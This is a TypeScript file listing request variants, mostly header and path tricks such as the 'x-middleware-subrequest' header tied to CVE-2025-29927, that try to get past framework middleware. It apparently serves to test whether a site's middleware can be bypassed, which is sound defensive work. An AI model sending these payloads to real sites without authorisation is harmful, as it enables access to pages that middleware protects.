/** How a request tries to get past middleware: what is added to a path, and headers. */
export interface Bypass {
  readonly name: string
  readonly path: (internal: string) => string
  readonly headers: Readonly<Record<string, string>>
}

const asItIs = (internal: string) => internal
const nested = Array.from({ length: 5 }, () => 'middleware').join(':')

/** Holes that frameworks had: CVE-2025-29927 and the internal forms of a page's data. */
export const BYPASSES: readonly Bypass[] = [
  { name: 'as it is', path: asItIs, headers: {} },
  { name: 'subrequest', path: asItIs, headers: { 'x-middleware-subrequest': 'middleware' } },
  { name: 'subrequest, deep', path: asItIs, headers: { 'x-middleware-subrequest': nested } },
  {
    name: 'subrequest in src',
    path: asItIs,
    headers: { 'x-middleware-subrequest': 'src/middleware:src/middleware:src/middleware' },
  },
  { name: 'rewritten by the client', path: asItIs, headers: { 'x-middleware-rewrite': '/es_MX.MXN' } },
  { name: 'invoked', path: asItIs, headers: { 'x-invoke-path': '/es_MX.MXN', 'x-matched-path': '/' } },
  { name: 'RSC', path: asItIs, headers: { rsc: '1' } },
  { name: 'RSC with a key', path: (internal) => `${internal}?_rsc=1abcd`, headers: { rsc: '1' } },
  {
    name: 'prefetch',
    path: asItIs,
    headers: { rsc: '1', 'next-router-prefetch': '1' },
  },
  {
    name: 'segment prefetch',
    path: asItIs,
    headers: { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' },
  },
  { name: '.rsc', path: (internal) => `${internal}.rsc`, headers: {} },
  { name: '.txt', path: (internal) => `${internal}.txt`, headers: { rsc: '1' } },
  { name: 'segments', path: (internal) => `${internal}.segments/_tree.segment.rsc`, headers: {} },
  {
    name: 'data',
    path: (internal) => `/_next/data/build${internal}.json`,
    headers: { 'x-nextjs-data': '1' },
  },
  { name: 'nxtP', path: (internal) => `${internal}?nxtPmarket=en_US.USD&nxtPcode=x`, headers: {} },
  { name: 'encoded', path: (internal) => internal.replace('user', '%75ser'), headers: {} },
  { name: 'doubled slashes', path: (internal) => internal.replaceAll('/', '//'), headers: {} },
]
